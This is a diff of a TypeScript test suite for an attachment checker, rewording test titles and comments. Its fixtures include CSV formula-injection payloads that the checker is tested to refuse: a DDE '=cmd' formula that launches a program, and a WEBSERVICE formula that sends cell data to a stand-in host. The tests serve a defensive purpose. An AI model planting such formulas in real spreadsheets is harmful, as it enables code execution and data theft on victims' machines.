@@ -7,7 +7,7 @@ import type { AppError } from '../errors';
 import { makeSigned } from '../pdf-signing/test/documents';
 import { checkAttachment } from './content';
 
-/** A zip as office programs write it. */
+/** Returns a ZIP as Office programs write it. */
 async function zipOf(parts: Record<string, string>): Promise<Buffer> {
   const zip = new ZipFile();
   for (const [name, content] of Object.entries(parts)) zip.addBuffer(Buffer.from(content), name);
@@ -30,7 +30,7 @@ const ods = (parts: Record<string, string> = {}) =>
     ...parts,
   });
 
-/** A PDF of one page, and what is done to it. */
+/** Returns a PDF of one page after applying a change. */
 async function pdfWith(change: (document: PDFDocument) => unknown = () => undefined): Promise<Buffer> {
   const document = await PDFDocument.create();
   document.addPage([200, 200]);
@@ -72,14 +72,14 @@ describe('checkAttachment', async () => {
     ['a.csv', 'text/csv; charset=utf-8', Buffer.from('item,price\n"Pipe, steel",₹ 40\nValve,12\n')],
     ['a.csv', 'text/csv; charset=utf-8', Buffer.from('\uFEFFa;b\r\n1;2\r\n')],
     ['one-column.csv', 'text/csv; charset=utf-8', Buffer.from('पाइप\n')],
-  ])('keeps %s as %s, as it is', async (name, contentType, bytes) => {
+  ])('an attachment %s is accepted as %s and its bytes stay unchanged', async (name, contentType, bytes) => {
     const checked = await check(name, bytes);
     expect(checked).toMatchObject({ fileName: name, contentType, pixels: null });
     expect(checked.bytes).toBe(bytes);
   });
 
   // OFF-465
-  it('returns who signed a PDF that is signed already, and keeps its bytes', async () => {
+  it('returns the signers of an already signed PDF, and leaves its bytes unchanged', async () => {
     const signed = await makeSigned();
     const checked = await check('offer.pdf', signed);
     expect(checked.signedBy).toEqual(['Test signer']);
@@ -87,7 +87,7 @@ describe('checkAttachment', async () => {
     expect((await check('offer.pdf', pdf)).signedBy).toEqual([]);
   });
 
-  it('keeps images', async () => {
+  it('images of each allowed format are accepted as attachments', async () => {
     const images: [string, string, Buffer][] = [
       ['a.png', 'image/png', await picture().png().toBuffer()],
       ['a.jpg', 'image/jpeg', await picture().jpeg().toBuffer()],
@@ -150,9 +150,9 @@ describe('checkAttachment', async () => {
     ['a table that starts a program', 'a.csv', Buffer.from("a,b\n1,=cmd|' /C calc'!A0\n")],
     ['the same in quotes and full width', 'a.csv', Buffer.from(`a\n"＋cmd|' /C calc'!A0"\n`)],
     ['a table that fetches', 'a.csv', Buffer.from('=WEBSERVICE("https://evil.example/?"&A1)\n')],
-  ])('refuses %s', async (_what, name, bytes) => {
+  ])('refuses an attachment that is %s', async (_what, name, bytes) => {
     const refusal = await check(name, bytes).catch((error: unknown) => error as AppError);
-    // A program reads the reason in the detail, a form at the field.
+    // API clients read the reason in `detail`, forms at the field.
     expect(refusal).toMatchObject({
       code: 'document_refused',
       fields: [{ field: 'file', text: (refusal as AppError).text }],
@@ -167,21 +167,24 @@ describe('checkAttachment', async () => {
     ['letter.png', await pdfWith(), 'letter.pdf', 'application/pdf'],
     ['letter.pdf', await picture().jpeg().toBuffer(), 'letter.jpg', 'image/jpeg'],
     ['photo.jpeg', await picture().jpeg().toBuffer(), 'photo.jpeg', 'image/jpeg'],
-  ])('names a picture or a PDF after its content: %s', async (given, bytes, fileName, contentType) => {
-    expect(await check(given, bytes)).toMatchObject({ fileName, contentType });
-  });
+  ])(
+    'renames an image or a PDF according to its content: %s',
+    async (given, bytes, fileName, contentType) => {
+      expect(await check(given, bytes)).toMatchObject({ fileName, contentType });
+    },
+  );
 
   it.each([
     ['a GIF named .png', 'a.png', await picture().gif().toBuffer()],
     ['a program named .jpg', 'a.jpg', Buffer.from('MZ\u0090\0')],
     ['a picture named .csv', 'a.csv', await picture().png().toBuffer()],
-  ])('refuses %s', async (_what, name, bytes) => {
+  ])('refuses an attachment whose content does not match its name: %s', async (_what, name, bytes) => {
     await expect(check(name, bytes)).rejects.toMatchObject({
       fields: [{ field: 'file', text: 'The content of this file is not what its name says.' }],
     });
   });
 
-  it('writes an image anew without its metadata and what hangs behind it', async () => {
+  it('re-encodes an image without its metadata and without data appended to the file', async () => {
     const bytes = await picture()
       .withExif({ IFD0: { Copyright: 'home address' } })
       .jpeg()
